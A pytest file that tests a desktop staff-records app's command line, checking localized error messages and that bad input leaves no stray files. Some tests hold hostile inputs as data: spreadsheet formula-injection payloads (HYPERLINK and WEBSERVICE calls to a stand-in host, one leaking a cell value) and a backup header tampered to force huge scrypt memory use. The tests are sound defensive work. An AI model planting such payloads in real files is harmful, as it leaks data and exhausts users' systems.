"""Ordinary mistakes and hostile input on the command line: a message in the user's language,
exit 1, no traceback, no stray file, and the office unchanged."""
from __future__ import annotations

import io
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.app import main
from desktop_app.storage.database import open_store
from tests.sealing import office_key
from tests.services.test_staff_import import GOOD, RU_HEADER, write_csv


@pytest.fixture
def office(tmp_path: Path) -> Path:
    db = tmp_path / "office.sqlite"
    open_store(db, office_key()).close()  # sealed with the tests' key; commands open it with $BAGALAU_PASSWORD
    assert main(["import-staff", "--db", str(db), str(write_csv(tmp_path / "staff.csv", [RU_HEADER, *GOOD]))]) == 0
    return db


def test_export_to_a_csv_name_is_refused_not_renamed(office: Path, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    out = tmp_path / "dir.csv"
    assert main(["--lang", "ru", "export", "annual", "--db", str(office), "--year", "2026", "--out", str(out)]) == 1
    assert f"Имя выходного файла должно оканчиваться на .xlsx: {out}" in capsys.readouterr().err
    assert not out.exists() and not (tmp_path / "dir.csv.xlsx").exists()


def test_print_into_a_missing_folder_is_a_message_not_a_traceback(office: Path, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    out = tmp_path / "нет-такой" / "annual.pdf"
    assert main(["--lang", "kk", "print", "annual", "--db", str(office), "--year", "2026", "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and str(out.parent) in err and "қалта" in err.lower()
    assert not out.parent.exists()


def test_import_of_a_folder_named_like_a_csv(office: Path, tmp_path: Path, capsys) -> None:
    folder = tmp_path / "x.csv"
    folder.mkdir()
    before = office.read_bytes()
    capsys.readouterr()
    assert main(["import-staff", "--db", str(office), "--lang", "ru", str(folder)]) == 1
    assert "x.csv — это папка, а не файл" in capsys.readouterr().err
    assert office.read_bytes() == before


@pytest.mark.parametrize("password", ["", "x", "aaaaaaaa"])
def test_encrypted_backup_refuses_a_weak_password(office: Path, tmp_path: Path, capsys, monkeypatch,
                                                  password: str) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(password + "\n"))
    capsys.readouterr()
    to = tmp_path / "usb"
    assert main(["backup", "--db", str(office), "--to", str(to), "--encrypt", "--lang", "ru"]) == 1
    err = capsys.readouterr().err
    assert "Пароль должен содержать не менее 8 символов" in err or "Пароль слишком простой" in err
    assert not to.exists() or list(to.iterdir()) == []  # no copy at all, least of all a plain one


def test_encrypt_command_refuses_a_one_letter_password(tmp_path: Path, capsys, monkeypatch) -> None:
    doc = tmp_path / "summary.pdf"
    doc.write_bytes(b"%PDF-1.4 confidential")
    monkeypatch.setattr(sys, "stdin", io.StringIO("x\n"))
    assert main(["encrypt", str(doc), "--lang", "kk"]) == 1
    assert "Құпиясөз" in capsys.readouterr().err
    assert not (tmp_path / "summary.pdf.bgenc").exists()


def test_encrypted_copy_with_an_altered_cost_is_refused_at_once(office: Path, tmp_path: Path, capsys,
                                                                monkeypatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("Ұзақ-құпиясөз-2026\n"))
    assert main(["backup", "--db", str(office), "--to", str(tmp_path / "usb"), "--encrypt"]) == 0
    sealed = next((tmp_path / "usb").iterdir())
    blob = bytearray(sealed.read_bytes())
    blob[8:11] = bytes([22, 32, 16])  # scrypt N = 2**22, r = 32, p = 16: about 16 GB of work memory
    sealed.write_bytes(bytes(blob))
    before = office.read_bytes()
    monkeypatch.setattr(sys, "stdin", io.StringIO("Ұзақ-құпиясөз-2026\n"))
    capsys.readouterr()
    started = time.monotonic()
    assert main(["--lang", "ru", "restore", "--db", str(office), "--from", str(sealed)]) == 1
    assert time.monotonic() - started < 5
    assert "заголовок изменён" in capsys.readouterr().err
    assert office.read_bytes() == before


def test_exported_cells_are_never_formulas(tmp_path: Path) -> None:
    db = tmp_path / "office.sqlite"
    open_store(db, office_key()).close()
    hostile = [["791028302728", "=HYPERLINK(\"http://x.example/?\"&A2;\"Иванов\")", "Сергей", "", "+Отдел",
                "@Руководитель", "E-R-3", "да", "10.01.2020"],
               ["920515400008", "-Петрова", "Анна", "", "=WEBSERVICE(\"http://x.example\")", "Главный специалист",
                "E-R-4", "нет", "01.02.2021"]]
    f = write_csv(tmp_path / "staff.csv", [RU_HEADER, *hostile])
    assert main(["import-staff", "--db", str(db), str(f)]) == 1  # refused: "A2" puts a digit in the surname
    ok = [[hostile[0][0], "=Иванов", "Сергей", "", "+Отдел", "@Руководитель", "E-R-3", "да", "10.01.2020"],
          [hostile[1][0], "-Петрова", "Анна", "", "=WEBSERVICE(\"http://x.example\")", "Главный специалист",
           "E-R-4", "нет", "01.02.2021"]]
    assert main(["import-staff", "--db", str(db), str(write_csv(tmp_path / "ok.csv", [RU_HEADER, *ok]))]) == 0
    out = tmp_path / "staff.xlsx"
    assert main(["export-staff", "--db", str(db), "--out", str(out)]) == 0
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {"=Иванов", "-Петрова", "+Отдел", "@Руководитель", "=WEBSERVICE(\"http://x.example\")"} <= values
    assert all(c.quotePrefix for c in cells if str(c.value)[0] in "=+-@")
